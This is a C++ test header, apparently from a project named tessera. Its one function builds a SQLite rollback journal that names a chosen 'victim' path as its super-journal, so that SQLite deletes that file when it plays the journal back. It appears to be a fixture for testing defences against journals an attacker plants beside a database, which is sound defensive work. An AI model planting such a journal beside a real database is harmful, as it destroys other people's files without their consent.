#pragma once

#include <cstdint>
#include <string>
#include <string_view>

/// What an attacker puts beside a database.
namespace tessera::test {

/// A rollback journal in SQLite's format that changes nothing of a database of `num_pages` pages
/// of 4096 bytes, and names `victim` as the super-journal: SQLite, when it plays the journal back,
/// removes the file of that name.
inline std::string journal_that_removes(const std::string& victim, std::uint32_t num_pages) {
  constexpr std::string_view kMagic("\xd9\xd5\x05\xf9\x20\xa1\x63\xd7", 8);
  constexpr std::uint32_t kSector = 512, kPage = 4096;
  const auto word = [](std::uint32_t value) {
    std::string bytes;
    for (const int shift : {24, 16, 8, 0}) bytes += static_cast<char>(value >> shift & 0xFF);
    return bytes;
  };
  std::string journal(kMagic);
  // Number of records, nonce, size of the database before, sector, page.
  for (const std::uint32_t value : {0u, 7u, num_pages, kSector, kPage}) journal += word(value);
  journal.resize(kSector, '\0');
  std::uint32_t sum = 0;
  for (const char c : victim) sum += static_cast<std::uint32_t>(c);
  journal += word(0x40000000 / kPage + 1) + victim;
  return journal + word(static_cast<std::uint32_t>(victim.size())) + word(sum) +
         std::string(kMagic);
}

}  // namespace tessera::test
